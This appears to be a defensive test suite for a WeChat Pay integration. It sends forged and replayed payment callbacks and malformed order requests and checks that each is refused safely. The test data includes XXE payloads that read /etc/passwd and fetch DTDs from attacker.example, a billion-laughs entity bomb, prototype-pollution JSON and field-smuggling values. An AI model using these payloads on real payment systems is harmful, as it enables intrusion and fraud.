import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TEST_MERCHANT } from '../../dev/emulator/test-merchant';
import { sign } from '../../lib/wechatpay/sign';
import { buildXml, parseXml } from '../../lib/wechatpay/xml';
import { startTestStack, type TestStack } from '../support/stack';
import { reportFigures, scanTable } from './support';
import { callback, create } from '../support/api';
import { paidCallback } from '../support/callbacks';

const OTHER_KEY = 'ffffffffffffffffffffffffffffffff';
const figures = { callbackCases: 0, createCases: 0, answered5xx: 0, ordersChanged: 0 };
const reasons = new Map<string, number>();

// Set up before the cases are listed (top-level await): the cases are built around these orders.
const stack: TestStack = await startTestStack();
await stack.sim.faults({ dropNotifies: 1_000_000_000 });
/** A PENDING order (HMAC-SHA256, 100 fen) and a PAID one, the targets of the hostile callbacks. */
const pending = (await create({ tradeType: 'NATIVE', totalFee: 100, description: 'hostile target' })).body.outTradeNo as string;
const paid = (await create({ tradeType: 'NATIVE', totalFee: 100, description: 'hostile paid' })).body.outTradeNo as string;
await stack.sim.pay(paid);
const paidDocument = paidCallback(paid, 100, { transaction_id: (await stack.sim.order(paid)).transaction_id });

beforeAll(async () => {
  expect((await callback(paidDocument)).returnCode).toBe('SUCCESS');
});
afterAll(async () => {
  reportFigures('hostile input', { ...figures, refusalReasons: Object.fromEntries(reasons) });
  await stack.close();
});

/** Fields of a genuine callback for the pending order, signed with our key unless told otherwise. */
const resigned = (f: Record<string, string>, key: string = TEST_MERCHANT.apiKey, signType: 'MD5' | 'HMAC-SHA256' = 'HMAC-SHA256') => {
  const rest = { ...f };
  delete rest.sign;
  return buildXml({ ...rest, sign: sign(rest, key, signType) });
};
const base = parseXml(paidCallback(pending, 100, { transaction_id: '4200000000000000000000000001' }));
function fields(overrides: Record<string, string | undefined> = {}): Record<string, string> {
  const out: Record<string, string> = { ...base };
  for (const [name, value] of Object.entries(overrides)) {
    if (value === undefined) delete out[name];
    else out[name] = value;
  }
  return overrides.sign === undefined && Object.keys(overrides).length > 0 ? parseXml(resigned(out)) : out;
}
/** Re-serialises fields after a change, keeping the signature that was computed before it. */
const tampered = (change: (f: Record<string, string>) => void) => {
  const f = fields();
  change(f);
  return buildXml(f);
};
const genuine = fields();
const body = (xml: string) => xml.replace(/^<xml>|<\/xml>$/g, '');

type Case = [name: string, input: string | Uint8Array | (() => string), reason: RegExp, ack?: 'SUCCESS'];
const SIG = /signature|sign/i;
const XML = /XML|UTF-8|not a WeChat Pay/i;

const callbackCases: Case[] = [
  ['forged signature (random hex)', tampered((f) => (f.sign = 'A'.repeat(64))), SIG],
  ['forged MD5-length signature', tampered((f) => (f.sign = 'B'.repeat(32))), SIG],
  ['no sign field', tampered((f) => delete f.sign), /no sign/],
  ['empty sign', tampered((f) => (f.sign = '')), /no sign/],
  ['sign of whitespace', tampered((f) => (f.sign = ' '.repeat(64))), SIG],
  ['signed with another key (HMAC-SHA256)', resigned(fields(), OTHER_KEY), SIG],
  ['signed with another key (MD5)', resigned(fields(), OTHER_KEY, 'MD5'), SIG],
  ['signed with our key as MD5 for an HMAC order', resigned(fields(), TEST_MERCHANT.apiKey, 'MD5'), /signed with MD5/],
  [
    'declares sign_type MD5, MD5-signed, for an HMAC order',
    resigned(fields({ sign_type: 'MD5' }), TEST_MERCHANT.apiKey, 'MD5'),
    /signed with MD5/,
  ],
  ['declares HMAC-SHA256 but carries an MD5 signature', resigned(fields({ sign_type: 'HMAC-SHA256' }), TEST_MERCHANT.apiKey, 'MD5'), SIG],
  ['unknown sign_type SHA1', resigned(fields({ sign_type: 'SHA1' })), /sign_type/],
  ['sign_type changed after signing', tampered((f) => (f.sign_type = 'MD5')), SIG],
  ['amount raised after signing', tampered((f) => (f.total_fee = '10000')), SIG],
  ['amount lowered after signing', tampered((f) => (f.total_fee = '1')), SIG],
  ['cash_fee changed after signing', tampered((f) => (f.cash_fee = '1')), SIG],
  ['appid changed after signing', tampered((f) => (f.appid = 'wx0000000000000bad')), SIG],
  ['mch_id changed after signing', tampered((f) => (f.mch_id = '1900000109')), SIG],
  ['another appid, signed with our key', resigned(fields({ appid: 'wx0000000000000bad' })), /appid/],
  ['another mch_id, signed with our key', resigned(fields({ mch_id: '1900000109' })), /mch_id/],
  ['out_trade_no switched to another order after signing', tampered((f) => (f.out_trade_no = paid)), SIG],
  ['replay with another transaction id', tampered((f) => (f.transaction_id = '4200000000000000000000000002')), SIG],
  [
    'replay of the paid order with another transaction id',
    buildXml({ ...parseXml(paidDocument), transaction_id: '4200000000000000000000000003' }),
    SIG,
  ],
  ['exact replay of an acknowledged callback', paidDocument, /OK/, 'SUCCESS'],
  ['result_code changed to FAIL after signing', tampered((f) => (f.result_code = 'FAIL')), SIG],
  ['field added after signing (coupon_fee_0)', tampered((f) => (f.coupon_fee_0 = '50')), SIG],
  ['field removed after signing (time_end)', tampered((f) => delete f.time_end), SIG],
  ['value padded with whitespace after signing', tampered((f) => (f.total_fee = ' 100')), SIG],
  ['unknown order, forged', tampered((f) => (f.out_trade_no = '20990101unknownOrder000000')), SIG],
  ['unknown order, signed with our key', resigned(fields({ out_trade_no: '20990101unknownOrder000000' })), /no order/],
  ['an idempotency record named as the order, signed', resigned(fields({ out_trade_no: 'idempotency#abc' })), /signed with|no order/],
  ['total_fee in exponent form, signed', resigned(fields({ total_fee: '1e2' })), /total_fee/],
  ['negative total_fee, signed', resigned(fields({ total_fee: '-100' })), /total_fee/],
  ['decimal total_fee, signed', resigned(fields({ total_fee: '100.00' })), /total_fee/],
  ['no transaction_id, signed', resigned(fields({ transaction_id: undefined })), /transaction_id/],
  ['no total_fee, signed', resigned(fields({ total_fee: undefined })), /total_fee/],
  ['no result_code, signed', resigned(fields({ result_code: undefined })), /result_code/],
  ['no out_trade_no', tampered((f) => delete f.out_trade_no), /out_trade_no/],
  ['return_code FAIL', tampered((f) => (f.return_code = 'FAIL')), /return_code/],
  ['no return_code', tampered((f) => delete f.return_code), /return_code/],
  [
    'XXE: external entity',
    `<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><out_trade_no>&xxe;</out_trade_no>${body(buildXml(genuine))}</xml>`,
    /DOCTYPE|XXE/,
  ],
  ['XXE: parameter entity', `<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>${buildXml(genuine)}`, /DOCTYPE|XXE/],
  ['XXE: lower-case doctype', `<!doctype xml SYSTEM "http://attacker.example/x.dtd">${buildXml(genuine)}`, /DOCTYPE|XXE/],
  [
    'entity expansion (billion laughs)',
    `<!DOCTYPE xml [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><xml><attach>&c;</attach></xml>`,
    /DOCTYPE|XXE/,
  ],
  ['a 5 MB body', buildXml({ ...genuine, attach: 'x'.repeat(5 * 1024 * 1024) }), /limit/],
  ['just over the 64 KiB limit', buildXml({ ...genuine, attach: 'x'.repeat(64 * 1024) }), /limit/],
  ['truncated in the middle', buildXml(genuine).slice(0, 200), XML],
  ['truncated before </xml>', buildXml(genuine).slice(0, -6), XML],
  [
    'nested elements',
    `<xml><out_trade_no><a>${pending}</a></out_trade_no>${body(buildXml(genuine))}</xml>`.replace(
      /<out_trade_no><!\[CDATA\[[^\]]*\]\]><\/out_trade_no>/,
      '',
    ),
    /nested/,
  ],
  ['a field repeated', `<xml><total_fee>1</total_fee>${body(buildXml(genuine))}</xml>`, /more than once/],
  ['two roots', `${buildXml(genuine)}<xml></xml>`, XML],
  [
    'another root element',
    buildXml(genuine)
      .replace(/^<xml>/, '<root>')
      .replace(/<\/xml>$/, '</root>'),
    /root/,
  ],
  ['text beside the fields', buildXml(genuine).replace('<xml>', '<xml>hello'), /text/],
  [
    'not UTF-8 (Latin-1 bytes)',
    Buffer.concat([
      Buffer.from('<xml><attach>'),
      Buffer.from([0xe9, 0xff, 0xfe]),
      Buffer.from(`</attach>${body(buildXml(genuine))}</xml>`),
    ]),
    /UTF-8/,
  ],
  ['UTF-16 encoded', Buffer.from(`\ufeff${buildXml(genuine)}`, 'utf16le'), XML],
  ['a JSON body', JSON.stringify(genuine), XML],
  ['an empty body', '', /empty/],
  ['only whitespace', ' \n\t ', /empty/],
  ['a form-encoded body', new URLSearchParams(genuine).toString(), XML],
  ['a NUL byte in a value', buildXml(genuine).replace('<xml>', '<xml><attach>a\u0000b</attach>'), /XML|sign/i],
  ['an HTML entity', buildXml(genuine).replace('<xml>', '<xml><attach>&nbsp;</attach>'), /sign|XML/i],
  [
    'a numeric character reference in the amount',
    tampered((f) => (f.total_fee = '1')).replace('<total_fee><![CDATA[1]]>', '<total_fee>&#49;&#48;&#48;'),
    SIG,
  ],
  ['a processing instruction', `<?xml-stylesheet href="http://attacker.example/x.xsl"?>${tampered((f) => (f.sign = 'C'.repeat(64)))}`, SIG],
  ['only a comment', '<!-- nothing -->', XML],
  ['an unclosed CDATA section', '<xml><sign><![CDATA[abc</sign></xml>', XML],
  ['deeply nested', `<xml>${'<a>'.repeat(5_000)}x${'</a>'.repeat(5_000)}</xml>`, /nested|XML/],
  [
    'attributes on fields',
    buildXml(genuine)
      .replace('<total_fee>', '<total_fee currency="USD">')
      .replace(/<sign>.*<\/sign>/, '<sign>' + 'D'.repeat(64) + '</sign>'),
    SIG,
  ],
];

describe(`${callbackCases.length} hostile payment callbacks`, () => {
  it('has at least 50 cases', () => expect(callbackCases.length).toBeGreaterThanOrEqual(50));

  it.each(callbackCases)('%s: no order changes, no 5xx, a clear reason', async (_name, input, reason, ack) => {
    const before = await scanTable(stack);
    const reply = await callback(typeof input === 'function' ? input() : input);
    figures.callbackCases += 1;
    if (reply.status >= 500) figures.answered5xx += 1;
    expect(reply.status).toBe(200);
    expect(reply.returnCode).toBe(ack ?? 'FAIL');
    expect(reply.returnMsg).toMatch(reason);
    if (!ack)
      reasons.set(
        reply
          .returnMsg!.replace(/["(:].*$/, '')
          .trim()
          .slice(0, 48),
        (reasons.get(
          reply
            .returnMsg!.replace(/["(:].*$/, '')
            .trim()
            .slice(0, 48),
        ) ?? 0) + 1,
      );
    const after = await scanTable(stack);
    if (JSON.stringify(after) !== JSON.stringify(before)) figures.ordersChanged += 1;
    expect(after).toEqual(before);
  });
});

const long = (n: number) => 'x'.repeat(n);
type CreateCase = [name: string, body: unknown, field: string | undefined, raw?: boolean];
const ok = { tradeType: 'NATIVE', totalFee: 100, description: 'ok' };
const createCases: CreateCase[] = [
  ['no tradeType', { totalFee: 100, description: 'x' }, 'tradeType'],
  ['unknown tradeType', { ...ok, tradeType: 'MICROPAY' }, 'tradeType'],
  ['lower-case tradeType', { ...ok, tradeType: 'native' }, 'tradeType'],
  ['no totalFee', { tradeType: 'NATIVE', description: 'x' }, 'totalFee'],
  ['zero totalFee', { ...ok, totalFee: 0 }, 'totalFee'],
  ['negative totalFee', { ...ok, totalFee: -100 }, 'totalFee'],
  ['fractional totalFee', { ...ok, totalFee: 1.5 }, 'totalFee'],
  ['totalFee as a string', { ...ok, totalFee: '100' }, 'totalFee'],
  ['totalFee too large', { ...ok, totalFee: 1e12 }, 'totalFee'],
  ['totalFee null', { ...ok, totalFee: null }, 'totalFee'],
  ['no description', { tradeType: 'NATIVE', totalFee: 100 }, 'description'],
  ['empty description', { ...ok, description: '' }, 'description'],
  ['description of 129 characters', { ...ok, description: long(129) }, 'description'],
  ['emoji in the description', { ...ok, description: 'pay 💰' }, 'description'],
  ['control character in the description', { ...ok, description: 'a\u0007b' }, 'description'],
  ['description padded with spaces', { ...ok, description: ' x ' }, 'description'],
  ['description as an object', { ...ok, description: { $ne: '' } }, 'description'],
  ['JSAPI without openid', { ...ok, tradeType: 'JSAPI' }, 'openid'],
  ['openid on a NATIVE order', { ...ok, openid: 'oUpF8uMuAJO_M2pxb1Q9zNjWeS6o' }, 'openid'],
  ['openid with forbidden characters', { ...ok, tradeType: 'JSAPI', openid: 'o<script>' }, 'openid'],
  ['productId on a JSAPI order', { ...ok, tradeType: 'JSAPI', openid: 'oabc', productId: 'p1' }, 'productId'],
  ['productId too long', { ...ok, productId: long(33) }, 'productId'],
  ['attach of 128 bytes', { ...ok, attach: long(128) }, 'attach'],
  ['attach over 127 bytes in UTF-8', { ...ok, attach: '中'.repeat(43) }, 'attach'],
  [
    'sceneInfo on a NATIVE order',
    { ...ok, sceneInfo: { h5_info: { type: 'Wap', wap_url: 'https://shop.example.com', wap_name: 'Shop' } } },
    'sceneInfo',
  ],
  [
    'an emoji in sceneInfo wap_name',
    { ...ok, tradeType: 'MWEB', sceneInfo: { h5_info: { type: 'Wap', wap_url: 'https://a.example', wap_name: '🛒' } } },
    'sceneInfo.h5_info.wap_name',
  ],
  [
    'an extra key in sceneInfo h5_info',
    { ...ok, tradeType: 'MWEB', sceneInfo: { h5_info: { type: 'Wap', wap_url: 'https://a.example', wap_name: 'a', x: 1 } } },
    'sceneInfo.h5_info.x',
  ],
  ['U+FFFE in the description', { ...ok, description: 'a\uFFFE' }, 'description'],
  ['attach forging a field boundary', { ...ok, attach: 'x&out_trade_no=B&total_fee=1' }, 'attach'],
  ['sceneInfo of an unknown type', { ...ok, tradeType: 'MWEB', sceneInfo: { h5_info: { type: 'Desktop' } } }, 'sceneInfo.h5_info.type'],
  ['idempotencyKey of 65 characters', { ...ok, idempotencyKey: long(65) }, 'idempotencyKey'],
  ['idempotencyKey with a space', { ...ok, idempotencyKey: 'a b' }, 'idempotencyKey'],
  ['the client IP in the body', { ...ok, spbill_create_ip: '1.2.3.4' }, 'spbill_create_ip'],
  ['an unknown field', { ...ok, status: 'PAID' }, 'status'],
  ['__proto__ pollution', JSON.parse('{"tradeType":"NATIVE","totalFee":100,"description":"x","__proto__":{"admin":true}}'), '__proto__'],
  ['an array body', [ok], undefined],
  ['a string body', '"hello"', undefined, true],
  ['a number body', '42', undefined, true],
  ['a null body', 'null', undefined, true],
  ['invalid JSON', '{"tradeType":', undefined, true],
  ['an empty body', '', undefined, true],
  ['an XML body', '<xml><total_fee>1</total_fee></xml>', undefined, true],
  [
    'deeply nested JSON',
    `{"tradeType":"MWEB","totalFee":1,"description":"x","sceneInfo":${'{"h5_info":'.repeat(1000)}{}${'}'.repeat(1000)}}`,
    'sceneInfo.h5_info.type',
    true,
  ],
];

describe(`${createCases.length} hostile order requests`, () => {
  it('has at least 30 cases', () => expect(createCases.length).toBeGreaterThanOrEqual(30));

  it.each(createCases)('%s: 400 naming the field, nothing stored', async (_name, input, field, raw) => {
    const before = await scanTable(stack);
    const answer = await create(raw ? (input as string) : JSON.stringify(input));
    figures.createCases += 1;
    if (answer.status >= 500) figures.answered5xx += 1;
    expect(answer.status, answer.raw).toBe(400);
    expect(answer.body.error?.code).toBe('INVALID_REQUEST');
    expect(answer.body.error?.message.length).toBeGreaterThan(5);
    if (field) {
      expect(answer.body.error?.field).toBe(field);
      expect(answer.body.error?.message).toContain(field);
    }
    expect(await scanTable(stack)).toEqual(before);
  });

  it.each([
    ['a 5 MB body', JSON.stringify({ ...ok, description: long(5 * 1024 * 1024) })],
    ['a body just over 16 KiB', JSON.stringify({ ...ok, attach: 'x', pad: long(16 * 1024) })],
  ])('%s: 413 before it is parsed, nothing stored', async (_name, input) => {
    const before = await scanTable(stack);
    const answer = await create(input);
    figures.createCases += 1;
    if (answer.status >= 500) figures.answered5xx += 1;
    expect(answer.status, answer.raw).toBe(413);
    expect(answer.body.error?.code).toBe('BODY_TOO_LARGE');
    expect(answer.body.error?.message).toMatch(/at most 16384/);
    expect(await scanTable(stack)).toEqual(before);
  });
});
